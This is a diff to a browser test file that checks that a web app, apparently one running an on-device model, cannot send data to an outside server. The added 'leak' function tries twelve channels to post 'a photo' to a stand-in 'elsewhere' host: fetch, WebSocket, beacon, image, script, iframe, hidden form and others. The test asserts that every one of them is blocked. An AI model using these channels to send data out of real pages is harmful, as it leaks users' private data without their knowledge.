@@ -44,7 +44,7 @@ for (const engine of engines.filter((name) => (process.env.VIOLET_ENGINE ?? name
       await body(t);
       broken = false;
     });
-    await journey(user, site, step);
+    await journey(user, site, address, step);
     await step("nothing was heard elsewhere", async () => {
       assert.deepEqual(heard, []);
       await fetch(`${address}proof`);
@@ -71,6 +71,8 @@ function spy(elsewhere, own) {
     socket: () => event(new WebSocket(`${elsewhere.replace("http", "ws")}socket`)),
     events: () => event(new EventSource(`${elsewhere}events`)),
     script: async () => importScripts(`${elsewhere}script`),
+    // Which no policy reaches where pages have it.
+    calls: async () => new RTCPeerConnection(),
     own: () => fetch(`${own}icon.svg`),
   };
   const tried = Promise.all(Object.entries(ways).map(async ([name, way]) => {
@@ -81,7 +83,51 @@ function spy(elsewhere, own) {
   channel.onmessage = async () => channel.postMessage(await tried);
 }
 
-async function journey(user, site, step) {
+/** In the page: the same, and what only a document can. Elements that are refused say so, or say nothing. */
+function leak(elsewhere) {
+  const seen = (target) => new Promise((done, failed) => {
+    target.onload = target.onopen = target.onloadeddata = target.onmessage = done;
+    target.onerror = target.onclose = failed;
+  });
+  const insert = (tag, attributes, wait = seen) => {
+    const element = Object.assign(document.createElement(tag), attributes);
+    const came = wait(element);
+    document.body.append(element);
+    return came;
+  };
+  // Of what tells nobody whether it was sent, only the other end knows.
+  const unheard = async () => { throw new Error("nobody says"); };
+  const ways = {
+    fetch: () => fetch(`${elsewhere}page-fetch`, { method: "POST", body: "a photo", mode: "no-cors" }),
+    socket: () => seen(new WebSocket(`${elsewhere.replace("http", "ws")}page-socket`)),
+    events: () => seen(new EventSource(`${elsewhere}page-events`)),
+    image: () => insert("img", { src: `${elsewhere}page-image` }),
+    script: () => insert("script", { src: `${elsewhere}page-script` }),
+    module: () => import(`${elsewhere}page-module.js`),
+    style: () => insert("link", { rel: "stylesheet", href: `${elsewhere}page-style` }),
+    video: () => insert("video", { src: `${elsewhere}page-video` }),
+    beacon: () => { navigator.sendBeacon(`${elsewhere}page-beacon`, "a photo"); return unheard(); },
+    prefetch: () => { insert("link", { rel: "prefetch", href: `${elsewhere}page-prefetch` }); return unheard(); },
+    frame: () => { insert("iframe", { src: `${elsewhere}page-frame` }, () => {}); return unheard(); },
+    form: () => {
+      insert("iframe", { name: "nowhere" }, () => {});
+      const form = Object.assign(document.createElement("form"), { action: `${elsewhere}page-form`, method: "post", target: "nowhere" });
+      document.body.append(form);
+      form.submit();
+      return unheard();
+    },
+  };
+  return Promise.all(Object.entries(ways).map(async ([name, way]) => {
+    const sent = await Promise.resolve().then(way).then(() => true, () => false);
+    return [name, sent];
+  })).then((all) => {
+    document.querySelectorAll(`body > :is(img, script, link, video, iframe, form)[src^="${elsewhere}"], body > link, body > form, body > iframe`)
+      .forEach((one) => one.remove());
+    return Object.fromEntries(all);
+  });
+}
+
+async function journey(user, site, elsewhere, step) {
   await step("load", async () => {
     await user.goto(`${site.url}?device=cpu&model=shapesnet&steps=2&workers=2`);
     await user.status(/is ready/);
@@ -98,7 +144,13 @@ async function journey(user, site, step) {
     const { own, ...others } = tried;
     assert.ok(own, "its own server answers");
     assert.deepEqual(Object.entries(others).filter(([, sent]) => sent), []);
-    assert.equal(Object.keys(others).length, 6);
+    assert.equal(Object.keys(others).length, 7);
+  });
+
+  await step("the page cannot, either", async () => {
+    const tried = await user.evaluate(leak, elsewhere);
+    assert.deepEqual(Object.entries(tried).filter(([, sent]) => sent), []);
+    assert.equal(Object.keys(tried).length, 12);
   });
 
   await step("a sample", async () => {
